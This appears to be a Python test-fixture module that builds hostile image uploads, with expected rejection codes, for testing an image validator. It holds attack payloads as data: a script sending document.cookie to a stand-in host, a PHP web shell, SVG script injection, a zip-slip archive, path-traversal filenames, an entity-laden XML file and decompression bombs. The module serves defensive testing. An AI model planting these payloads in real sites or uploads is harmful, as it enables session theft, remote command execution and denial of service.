"""Pictures that lie: scripts, metadata, bombs, files of other kinds under other names. Made here, never fetched."""

import gzip
import io
import struct
import zipfile
import zlib

from PIL import Image, PngImagePlugin

CANARY = b"Zarcanario"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert("Zarcanario")</script></svg>'
HTML = b"<html><script>fetch('//x/'+document.cookie)/*Zarcanario*/</script></html>"
PHP = b"<?php system($_GET['c']); /*Zarcanario*/ ?>"


def picture(kind: str, size: tuple[int, int] = (48, 32), mode: str = "RGB", **options: object) -> bytes:
    out = io.BytesIO()
    Image.effect_noise(size, 60).convert(mode).save(out, kind, **options)
    return out.getvalue()


def chunk(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def png_of(width: int, height: int, rows: bytes, *extra: bytes, depth: int = 8, colour: int = 0) -> bytes:
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(extra) + chunk(b"IDAT", zlib.compress(rows, 9)) + chunk(b"IEND", b"")


def exif() -> bytes:
    """Camera, author, moment, place and a thumbnail."""
    tags = Image.Exif()
    tags[0x010F], tags[0x0110], tags[0x013B] = "Zarcanario", "Zarcanario 12", "Zarcanario"
    tags[0x9286], tags[0x0132], tags[0x0112] = b"ASCII\0\0\0Zarcanario", "2026:11:26 17:00:00", 6
    tags.get_ifd(0x8825).update({1: "N", 2: (16.0, 51.0, 48.5), 3: "W", 4: (99.0, 54.0, 36.1), 29: "2026:11:26"})
    return tags.tobytes()


def with_metadata() -> dict[str, bytes]:
    """Real pictures that carry what must not survive."""
    texts = PngImagePlugin.PngInfo()
    texts.add_text("Author", "Zarcanario")
    texts.add_itxt("XML:com.adobe.xmp", "<x:xmpmeta>Zarcanario</x:xmpmeta>")
    texts.add_text("Comment", "Zarcanario " * 50, zip=True)
    jpeg, png, webp = picture("JPEG"), picture("PNG"), picture("WEBP")
    xmp = b"<x:xmpmeta xmlns:x='adobe:ns:meta/'>Zarcanario</x:xmpmeta>"
    app = {n: jpeg[:2] + bytes([0xFF, 0xE0 + n]) + struct.pack(">H", 2 + 40) + (CANARY * 4)[:40] + jpeg[2:]
           for n in (1, 2, 3, 11, 12, 13, 14)}
    stego = png_of(16, 16, bytes(17 * 16), chunk(b"zTXt", b"k\0\0" + zlib.compress(CANARY)))
    return {
        "foto.jpg": picture("JPEG", exif=exif()), "foto-xmp.jpg": picture("JPEG", xmp=xmp),
        "foto-comentario.jpg": picture("JPEG", comment=CANARY),
        "foto-icc.jpg": picture("JPEG", icc_profile=CANARY * 20),
        "foto.png": picture("PNG", pnginfo=texts), "foto-exif.png": picture("PNG", exif=exif()),
        "foto-icc.png": picture("PNG", icc_profile=CANARY * 20), "foto.webp": picture("WEBP", exif=exif(), xmp=xmp),
        "foto-icc.webp": picture("WEBP", icc_profile=CANARY * 20), "ztxt.png": stego,
        **{f"app{n}.jpg": data for n, data in app.items()},
        "cola-html.jpg": jpeg + HTML,
        "cola-php.png": png + PHP,
        "cola-zip.jpg": jpeg + zipped(),
        "cola.webp": webp + HTML,
        "cola-svg.png": png + SVG, "cola-pdf.jpg": jpeg + b"%PDF-1.7 Zarcanario", "cola-foto.jpg": jpeg + picture(
            "JPEG", exif=exif()),
        "comentario-js.jpg": picture("JPEG", comment=b"*/=alert(1)/*Zarcanario"),
        "animada.png": animated("PNG"), "animada.webp": animated("WEBP"),
        "gris.png": picture("PNG", mode="L", pnginfo=texts), "paleta.png": picture("PNG", mode="P", pnginfo=texts),
        "cmyk.jpg": picture("JPEG", mode="CMYK", exif=exif()), "clara.png": picture("PNG", mode="RGBA", pnginfo=texts),
        "un-punto.png": picture("PNG", (1, 1), pnginfo=texts), "larga.png": picture("PNG", (9000, 2), pnginfo=texts),
        "bits.png": picture("PNG", mode="1", pnginfo=texts), "progresiva.jpg": picture(
            "JPEG", progressive=True, exif=exif()),
    }


def animated(kind: str) -> bytes:
    out = io.BytesIO()
    frames = [Image.new("RGB", (24, 24), colour) for colour in ("red", "blue", "green")]
    frames[0].save(out, kind, save_all=True, append_images=frames[1:], exif=exif())
    return out.getvalue()


def zipped() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("../../etc/Zarcanario", CANARY)
    return out.getvalue()


def refused() -> dict[str, tuple[bytes, str]]:
    """What is no picture, or breaks while it is opened: name, bytes, expected code."""
    jpeg, png, webp = picture("JPEG", (64, 64)), picture("PNG", (64, 64)), picture("WEBP", (64, 64))
    flat = bytes(31000)
    other = {kind: picture(kind) for kind in (
        "GIF", "BMP", "TIFF", "PPM", "ICO", "TGA", "PCX", "SGI", "DDS", "PDF", "EPS")}
    unfolds = b"k\0\0" + zlib.compress(bytes(80_000_000), 9)
    return {
        "dibujo.svg": (SVG, "TQ-470"), "dibujo.svg.png": (SVG, "TQ-470"), "svgz.svg": (gzip.compress(SVG), "TQ-470"),
        "pagina.html": (HTML, "TQ-470"), "consola.php.jpg": (PHP, "TQ-470"), "archivo.zip": (zipped(), "TQ-470"),
        "xml.png": (b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "Zarcanario">]><svg>&b;</svg>', "TQ-470"),
        "mvg.jpg": (b'push graphic-context\nfill "url(https://x/Zarcanario)"', "TQ-470"),
        "ps.eps": (b"%!PS-Adobe-3.0 EPSF-3.0\n(Zarcanario) run", "TQ-470"),
        "elf.png": (b"\x7fELF" + bytes(60), "TQ-470"),
        "vacio.jpg": (b"", "TQ-470"),
        "nulos.jpg": (bytes(4096), "TQ-470"),
        "texto.jpg": ("Zarcanario ñ".encode(), "TQ-470"),
        "heic.jpg": (b"\0\0\0\x18ftypheic" + bytes(64), "TQ-470"),
        "avif.jpg": (b"\0\0\0\x18ftypavif" + bytes(64), "TQ-470"),
        "psd.jpg": (b"8BPS\0\1" + bytes(64), "TQ-470"), "wav.webp": (b"RIFF\x24\0\0\0WAVEfmt " + bytes(24), "TQ-470"),
        "../../llaves.jpg": (b"no", "TQ-470"), "..\\..\\x.png": (b"no", "TQ-470"), "nulo\0.png": (b"no", "TQ-470"),
        **{f"otro.{kind.lower()}": (data, "TQ-470") for kind, data in other.items()},
        "cortada.jpg": (jpeg[:len(jpeg) // 2], "TQ-473"), "cortada.png": (png[:len(png) // 2], "TQ-473"),
        "cortada.webp": (webp[:len(webp) // 2], "TQ-47"), "sólo-inicio.jpg": (jpeg[:3], "TQ-47"),
        "sólo-inicio.png": (png[:8], "TQ-47"), "crc.png": (png[:40] + b"\0\0" + png[42:], "TQ-47"),
        "riff.webp": (b"RIFF\xff\xff\xff\x7fWEBPVP8 " + bytes(40), "TQ-47"),
        "bomba.png": (png_of(30000, 30000, flat), "TQ-472"), "bomba-gris.png": (png_of(50000, 20000, flat), "TQ-472"),
        "bomba-ancha.png": (png_of(2**31 - 1, 1, flat), "TQ-47"),
        "bomba-alta.png": (png_of(1, 2**31 - 1, flat), "TQ-47"),
        "bomba-filas.png": (png_of(10, 10, bytes(60_000_000)), "ok or TQ-473"),
        "texto-bomba.png": (png_of(4, 4, bytes(20), chunk(b"zTXt", unfolds)), "TQ-47"),
        "icc-bomba.png": (png_of(4, 4, bytes(20), chunk(b"iCCP", unfolds)), "ok or TQ-47"),
        "cero.png": (png_of(0, 0, b""), "TQ-47"), "mentira.png": (png_of(100, 100, b"\0" * 50), "TQ-473"),
        "pesada.jpg": (b"\xff\xd8\xff" + bytes(12 * 1024 * 1024), "TQ-471"),
        "jpeg-alta.jpg": (jpeg.replace(struct.pack(">HH", 64, 64), struct.pack(">HH", 65535, 65535), 1), "TQ-472"),
    }
